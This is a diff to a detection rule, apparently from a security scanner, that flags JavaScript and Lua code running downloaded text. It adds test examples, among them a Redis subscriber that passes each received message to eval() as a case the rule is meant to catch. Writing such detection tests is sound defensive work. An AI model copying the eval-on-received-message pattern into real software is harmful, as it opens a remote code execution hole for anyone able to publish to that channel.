@@ -32,6 +32,8 @@ export const runsDownloadedCode = defineRule({
   },
   examples: {
     found: [
+      js(`const client = require('redis').createClient({ url: 'redis://a.example' })
+^client.subscribe('orders', (text) => eval(text))`),
       js(
         `const url = new URL('https://a.example')
 url.pathname = '/fonts/inter'
@@ -113,6 +115,8 @@ end)`),
       ),
     ],
     notFound: [
+      js(`const client = require('redis').createClient({ url: 'redis://a.example' })
+client.subscribe('orders', (text) => show(text))`),
       js(`import(new URL('/a.js', 'https://cdnjs.cloudflare.com').toString().slice(1))`, 'page'),
       lua(`PerformHttpRequest('https://a.example', function(_, text)
   xpcall(function() error(text) end, function(one) print(one) end)
